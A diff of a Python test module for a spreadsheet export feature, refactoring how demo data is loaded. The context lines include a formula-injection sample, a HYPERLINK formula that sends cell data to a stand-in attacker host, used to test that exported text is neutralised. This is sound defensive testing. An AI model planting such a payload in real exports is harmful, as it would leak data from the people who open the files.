@@ -4,6 +4,7 @@ database, with hostile text that must never become a formula."""
 from __future__ import annotations
 
 import csv
+from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
@@ -37,6 +38,7 @@ from app.model import (
     Participant,
 )
 from app.store import Store
+from tests.demo_support import LoadDemo
 
 HOSTILE = {
     "family_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -81,10 +83,11 @@ def _meeting(
     return m
 
 
-def write_demo_with_meetings(store: Store) -> Demo:
-    """The demo, a few meetings (one interpreted, one cancelled, two across Rome's DST
-    change) and one participant whose every text field is hostile."""
-    write_demo(store)
+def write_demo_with_meetings(store: Store, load: Callable[[Store], object] = write_demo) -> Demo:
+    """The demo (written by ``load``: the ``load_demo`` fixture copies it), a few meetings (one
+    interpreted, one cancelled, two across Rome's DST change) and one participant whose every
+    text field is hostile."""
+    load(store)
     with store.session() as s:
         tn, nt = _mission(s, "Nagoya"), _mission(s, "Torino")
         japanese, accented = _person(s, "Yamauchi"), _person(s, "Bertè")
@@ -119,8 +122,8 @@ def write_demo_with_meetings(store: Store) -> Demo:
 
 
 @pytest.fixture
-def demo(store: Store) -> Demo:
-    return write_demo_with_meetings(store)
+def demo(store: Store, load_demo: LoadDemo) -> Demo:
+    return write_demo_with_meetings(store, load_demo)
 
 
 def _expected_participant(s: Session, pid: int) -> dict[str, object]:
@@ -437,10 +440,10 @@ def test_requests_and_organisations_agree_with_the_database(store: Store, demo: 
             assert row["Requests made"] == sum(1 for r in stored if r.requester_id == o.id)
 
 
-def test_unknown_mission_and_table_are_refused(store: Store) -> None:
+def test_unknown_mission_and_table_are_refused(store: Store, load_demo: LoadDemo) -> None:
     with pytest.raises(ExportError, match="no mission 99"):
         export_sheets(store, 99, ["participants"])
-    write_demo(store)
+    load_demo(store)
     with pytest.raises(ExportError, match="Unknown export"):
         export_sheets(store, 1, ["people"])
 
@@ -468,12 +471,12 @@ def test_an_export_error_reads_in_japanese_and_italian(store: Store, tmp_path: P
 
 
 @pytest.fixture
-def demo_file(tmp_path: Path, paths: Paths) -> tuple[str, Demo]:
+def demo_file(tmp_path: Path, paths: Paths, load_demo: LoadDemo) -> tuple[str, Demo]:
     from app.store import open_store
 
     target = str(tmp_path / "demo.sqlite")
     with open_store(target, paths=paths) as s:
-        return target, write_demo_with_meetings(s)
+        return target, write_demo_with_meetings(s, load_demo)
 
 
 def test_cli_writes_xlsx_and_csv(demo_file: tuple[str, Demo], tmp_path: Path) -> None:
